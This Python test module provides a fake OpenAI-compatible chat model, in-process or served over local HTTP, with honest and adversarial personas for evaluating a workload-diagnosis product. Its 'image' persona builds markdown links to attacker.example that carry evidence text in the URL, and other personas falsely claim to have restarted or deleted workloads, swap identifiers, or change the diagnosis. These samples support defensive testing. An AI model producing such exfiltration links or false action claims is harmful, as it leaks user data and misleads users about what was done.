"""An OpenAI-compatible chat model for tests and evals: honest or adversarial, in-process or over real HTTP.

A *persona* decides what the model says to each request of the product (the chat's identifier extraction, its
rewording of a reply, a diagnosis's explanation); the same personas answer through

* :class:`FakeModel`, a langchain-core chat model (in-process: the Pass^k figure of ``eval`` uses it), and
* :func:`running` / :class:`Standin`, a real HTTP server on 127.0.0.1 that answers ``POST
  /v1/chat/completions`` as the OpenAI API does, in every format the client asks for: one JSON body, or
  server-sent events when the request says ``"stream": true`` (with a final usage chunk when
  ``stream_options.include_usage`` is set). Wire faults: a delay before the answer, a body dripped one byte at a
  time, a body of any size, a body that is not JSON.

Personas (:data:`PERSONAS`): ``honest`` (extracts what the words label, and of two unlabelled UUIDs takes the
second for the cluster; rewords by repeating the reply),
``claims`` (says it restarted, deleted and resubmitted), ``image`` (a markdown image and a link to a foreign host
carrying the evidence), ``role_swap`` (labels the workload's UUID as the cluster and the reverse), ``category``
(names another category), ``null`` (``content: null``), ``huge`` (a 5 MB answer).
"""
from __future__ import annotations

import json
import re
import threading
import time
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Callable, Iterator
from urllib.parse import quote

_BLOCK = re.compile(r"<<EVIDENCE (\w+)>>\n(.*)\n<<END EVIDENCE \1>>", re.DOTALL)
_UUID = re.compile(r"[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}")
CLAIM = "I have restarted your workload and deleted the failed pod. I also resubmitted the job with more memory."
ATTACKER = "http://attacker.example"
HUGE_CHARS = 5 * 1024 * 1024


def _kind(messages: list[dict]) -> str:
    system = next((m["content"] for m in messages if m["role"] == "system"), "") or ""
    if system.startswith("Extract identifiers"):
        return "extract"
    if system.startswith("Reword"):
        return "phrase"
    return "explain"


def _spotlit(messages: list[dict]) -> str:
    user = next((m["content"] for m in reversed(messages) if m["role"] == "user"), "") or ""
    m = _BLOCK.search(user)
    return m.group(2) if m else user


def _extraction(text: str, swap: bool = False) -> str:
    from workload_diagnose.agent.chat.parse import understand

    p = understand(text)
    cid, wid = p.cluster_id, p.workload_id
    bare = list(p.bare_uuids)
    if swap:  # every UUID in the words, the roles the other way round
        uuids = [u.lower() for u in _UUID.findall(text)]
        cid, wid = (wid or (uuids[0] if uuids else None)), (cid or (uuids[1] if len(uuids) > 1 else None))
    elif bare and not cid and len(bare) > 1:
        wid, cid = wid or bare[0], bare[1]
    return json.dumps({"cluster_id": cid, "cluster_name": p.cluster_name, "workload_id": wid,
                       "workload_name": p.workload_name, "project": p.project})


def _honest(messages: list[dict]) -> str | None:
    kind, body = _kind(messages), _spotlit(messages)
    if kind == "extract":
        return _extraction(body)
    if kind == "phrase":
        return body
    user = next((m["content"] for m in reversed(messages) if m["role"] == "user"), "") or ""
    m = re.search(r"^Category: (\S+)", user, re.MULTILINE)
    return f"The diagnosis is {m.group(1)}." if m else body


def _after(extra: Callable[[str], str]) -> Callable[[list[dict]], str | None]:
    def persona(messages: list[dict]) -> str | None:
        said = _honest(messages)
        return said if _kind(messages) == "extract" else f"{said}\n\n{extra(_spotlit(messages))}"
    return persona


def _role_swap(messages: list[dict]) -> str | None:
    return _extraction(_spotlit(messages), swap=True) if _kind(messages) == "extract" else _honest(messages)


PERSONAS: dict[str, Callable[[list[dict]], str | None]] = {
    "honest": _honest,
    "claims": _after(lambda ev: CLAIM),
    "image": _after(lambda ev: f"![status]({ATTACKER}/s.png?q={quote(ev[:80])}) Details: "
                               f"[full report]({ATTACKER}/r?q={quote(ev[:40])}) or {ATTACKER}/x"),
    "role_swap": _role_swap,
    "category": _after(lambda ev: "On reflection the root cause is NODE_FAILURE."),
    "null": lambda messages: None,
    "huge": lambda messages: "A" * HUGE_CHARS,
}
ADVERSARIAL = tuple(p for p in PERSONAS if p != "honest")


def _as_dicts(messages: list[Any]) -> list[dict]:
    role = {"system": "system", "human": "user", "ai": "assistant"}
    return [{"role": role.get(getattr(m, "type", ""), "user"), "content": getattr(m, "content", str(m))}
            for m in messages]


# ------------------------------------------------------------------------------------------------ in-process
def fake_model(persona: str, *, delay: float = 0.0) -> Any:
    """A langchain-core chat model answering as ``persona`` (``delay``: seconds before each answer)."""
    from langchain_core.language_models.chat_models import BaseChatModel
    from langchain_core.messages import AIMessage
    from langchain_core.outputs import ChatGeneration, ChatResult

    say = PERSONAS[persona]

    class FakeModel(BaseChatModel):
        @property
        def _llm_type(self) -> str:
            return f"standin-{persona}"

        def _generate(self, messages, stop=None, **kwargs):  # (langchain also passes run_manager: in kwargs)
            if delay:
                time.sleep(delay)
            text = say(_as_dicts(messages))
            msg = AIMessage(content="") if text is None else AIMessage(content=text)
            if text is None:
                msg.content = None  # type: ignore[assignment] - what a broken client mapping would hand back
            return ChatResult(generations=[ChatGeneration(message=msg)])

    return FakeModel()


# ------------------------------------------------------------------------------------------------ over HTTP
@dataclass
class Options:
    persona: str = "honest"
    delay: float = 0.0  # seconds before the status line
    drip: float = 0.0  # seconds between single bytes of the body (0: all at once)
    malformed: bool = False  # a 200 whose body is not JSON


@dataclass
class Standin:
    url: str  # the base URL a client is given (…/v1)
    options: Options
    requests: list[dict] = field(default_factory=list)
    stop: threading.Event = field(default_factory=threading.Event)


def _completion(content: str | None, model: str) -> bytes:
    return json.dumps({"id": "chatcmpl-standin", "object": "chat.completion", "created": 0, "model": model,
                       "choices": [{"index": 0, "message": {"role": "assistant", "content": content},
                                    "finish_reason": "stop"}],
                       "usage": {"prompt_tokens": 50, "completion_tokens": 10, "total_tokens": 60}}).encode()


def _events(content: str | None, model: str, usage: bool) -> bytes:
    def chunk(delta: dict, finish: str | None = None, **extra: Any) -> str:
        body = {"id": "chatcmpl-standin", "object": "chat.completion.chunk", "created": 0, "model": model,
                "choices": [{"index": 0, "delta": delta, "finish_reason": finish}], **extra}
        return f"data: {json.dumps(body)}\n\n"

    parts = [chunk({"role": "assistant", "content": "" if content is not None else None})]
    if content:
        parts += [chunk({"content": content[i:i + 64]}) for i in range(0, len(content), 64)]
    parts.append(chunk({}, "stop"))
    if usage:  # the last chunk: no choices, the counts (what stream_options.include_usage asks for)
        body = {"id": "chatcmpl-standin", "object": "chat.completion.chunk", "created": 0, "model": model,
                "choices": [], "usage": {"prompt_tokens": 50, "completion_tokens": 10, "total_tokens": 60}}
        parts.append(f"data: {json.dumps(body)}\n\n")
    parts.append("data: [DONE]\n\n")
    return "".join(parts).encode()


def _handler(st: Standin):
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *a: Any) -> None:
            pass

        def do_POST(self) -> None:
            n = int(self.headers.get("Content-Length") or 0)
            req = json.loads(self.rfile.read(n) or b"{}")
            st.requests.append(req)
            if not self.path.rstrip("/").endswith("/chat/completions"):
                return self._send(404, b'{"error": {"message": "not found"}}', "application/json")
            o = st.options
            if o.delay and st.stop.wait(o.delay):
                return
            content = PERSONAS[o.persona](req.get("messages") or [])
            model = str(req.get("model") or "standin")
            if o.malformed:
                return self._send(200, b"<html>not json", "application/json")
            if req.get("stream"):
                usage = bool((req.get("stream_options") or {}).get("include_usage"))
                return self._send(200, _events(content, model, usage), "text/event-stream")
            self._send(200, _completion(content, model), "application/json")

        def _send(self, status: int, body: bytes, ctype: str) -> None:
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            try:
                if not st.options.drip:
                    self.wfile.write(body)
                    return
                for i in range(len(body)):
                    if st.stop.wait(st.options.drip):
                        return
                    self.wfile.write(body[i:i + 1])
                    self.wfile.flush()
            except OSError:  # the client gave up
                pass

    return Handler


@contextmanager
def running(options: Options | None = None) -> Iterator[Standin]:
    """A stand-in on 127.0.0.1 (a free port) for the block; ``Standin.url`` is the base URL to give a client."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), None)  # type: ignore[arg-type]
    server.daemon_threads = True
    st = Standin(url=f"http://127.0.0.1:{server.server_address[1]}/v1", options=options or Options())
    server.RequestHandlerClass = _handler(st)
    t = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    t.start()
    try:
        yield st
    finally:
        st.stop.set()
        server.shutdown()
        server.server_close()
